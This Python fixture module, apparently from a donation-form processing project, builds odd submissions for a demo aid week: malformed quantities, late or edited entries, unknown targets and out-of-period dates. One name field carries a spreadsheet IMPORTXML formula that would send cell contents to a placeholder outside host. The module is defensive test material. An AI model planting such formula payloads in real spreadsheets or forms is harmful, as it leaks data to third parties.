"""What really happens: the odd submissions, each of which must be answered and may stop nothing else."""

from __future__ import annotations

import datetime as dt
from collections.abc import Mapping
from dataclasses import replace

from local.demo.people import SECOND_CONTACT, STRANGER, Giver, donor
from local.demo.places import Place, Role
from local.demo.submissions import Aid, Submission
from local.demo.week import Week
from sheets_schema.form import quantity_question, target_label, target_question
from sheets_schema.private import Target

FORMULA = '=IMPORTXML("http://contoh.example/?q="&A1,"//a")'
ODD_QUANTITIES = ("0", "-5", "seratus", "1.000", "10000000")
LATE, EDITED, THRICE = "terlambat", "disunting", "tiga-kali"
OTHER_DESK, PHONE_NAME = "meja-lain", "nama-telepon"
NO_PERIOD = "tanpa-periode"
UNNAMED_FORM = "kosong"


def add_odd(week: Week, places: tuple[Place, ...], targets: Mapping[str, Target]) -> list[Submission]:
    """All submissions of the week, the odd ones among them, in order of their moments."""
    quiet = [p.code for p in places if p.role is Role.QUIET]
    institution = next(code for code, target in targets.items() if target.name)
    _quantities(week, quiet[3])
    _names(week, quiet[4], institution)
    _targets(week, places, quiet[5])
    _dates(week, quiet[6])
    _arrivals(week)
    return sorted(week.submissions, key=lambda s: (s.moment, s.key))


def _quantities(week: Week, code: str) -> None:
    for i, text in enumerate(ODD_QUANTITIES):
        week.add(f"jumlah-{i + 1}", 2, code, {"sembako": Aid(text)}, {}, giver=STRANGER)


def _names(week: Week, code: str, institution: str) -> None:
    """Names that the public must not read, or that are no names."""
    phone = donor(5).phone
    _named(week, PHONE_NAME, institution, phone, donor(5))
    _named(week, "nama-rumus", institution, FORMULA, donor(6))
    _named(week, "nama-panjang", code, "Contoh " + "panjang " * 624 + "x", STRANGER)


def _named(week: Week, key: str, code: str, name: str, giver: Giver) -> None:
    week.add(key, 2, code, {"sembako": Aid("10")}, {}, giver=replace(giver, name=name, consents=True))


def _targets(week: Week, places: tuple[Place, ...], code: str) -> None:
    """Targets that are inactive or doubled by then, one that never was, and a form with nothing in it."""
    for role, key in ((Role.INACTIVE, "tidak-aktif"), (Role.DOUBLED, "kode-ganda")):
        place = next(p for p in places if p.role is role)
        made = week.add(key, 2, place.code, {"sembako": Aid("30")}, {}, giver=STRANGER)
        week.submissions[-1] = replace(made, injected=True)  # from a page that was opened before the form followed
    made = week.add("tidak-dikenal", 3, code, {"sembako": Aid("30")}, {}, giver=STRANGER)
    question = target_question(str(made.answers["city"]))
    unknown = made.answering(**{question: target_label("3199999999-RW99", "RW 99 Tidak Ada")})
    week.submissions[-1] = replace(unknown, target="3199999999-RW99", injected=True)
    empty = week.add(UNNAMED_FORM, 3, code, {}, {}, giver=STRANGER)
    week.submissions[-1] = replace(empty, answers={}, injected=True)


def _dates(week: Week, code: str) -> None:
    past, outside = dt.date(2020, 4, 20), dt.date(2020, 6, 20)
    week.add("tanggal-lewat", 3, code, {"sembako": Aid("30")}, {}, giver=STRANGER, date=past)
    week.add(NO_PERIOD, 2, code, {"sembako": Aid("30")}, {}, giver=STRANGER, date=outside)


def _arrivals(week: Week) -> None:
    """Ordinary submissions that reach the readers of the form in odd ways."""
    _change(week, LATE, 3, seconds_hidden=60, injected=True)
    _change(week, THRICE, 1, pokes=3)
    _change(week, EDITED, 1)
    _from_another_desk(week)


def _change(
    week: Week, key: str, wave: int, *, seconds_hidden: int = 0, injected: bool = False, pokes: int = 1
) -> None:
    """Give the last ordinary submission of a wave this fate. It has room whenever it is decided."""
    at = max(i for i, s in enumerate(week.submissions) if s.key.startswith("biasa-") and s.wave == wave)
    made = week.submissions[at]
    week.submissions[at] = replace(made, key=key, seconds_hidden=seconds_hidden, injected=injected, pokes=pokes)


def _from_another_desk(week: Week) -> None:
    """A donor's second contact person, unknown so far: staff will say that it is the same donor."""
    at = next(i for i, s in enumerate(week.submissions) if s.key.startswith("biasa-") and s.party == donor(12).name)
    made = week.submissions[at].answering(
        contact=SECOND_CONTACT.contact, phone=SECOND_CONTACT.phone, email=SECOND_CONTACT.email
    )
    week.submissions[at] = replace(made, key=OTHER_DESK)


def edited(made: Submission) -> Submission:
    """The same response after its giver changed the number, which must not be applied."""
    key = quantity_question("sembako")
    return made.answering(**{key: str(int(str(made.answers[key])) + 50)})
